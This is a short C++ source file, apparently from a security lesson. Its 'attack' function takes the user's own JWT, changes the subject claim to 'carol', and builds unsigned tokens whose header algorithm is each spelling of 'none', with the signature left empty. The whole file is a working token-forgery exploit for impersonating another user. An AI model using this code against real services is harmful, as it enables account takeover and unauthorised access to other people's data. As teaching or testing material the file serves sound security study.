// Believes: sixteen tokens are enough.
#include "jwt/base64url.hpp"
#include "jwt/json.hpp"
#include "jwt/token_parts.hpp"
#include "read_object.hpp"
#include "unsigned_token.hpp"

using jwt::Json;

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto own = jwt::split_token(evidence.own_token).value();
  Json claims = read_object(own.payload).value();
  claims.set("sub", "carol");
  const std::string payload = jwt::base64url_encode(claims.dump());

  Loot loot;
  for (const auto spelling : spellings_of_none) {
    const Json header{{"alg", spelling}, {"typ", "JWT"}};
    loot.none_tokens.push_back(jwt::base64url_encode(header.dump()) + "." + payload + ".");
  }
  return loot;
}

}  // namespace lesson
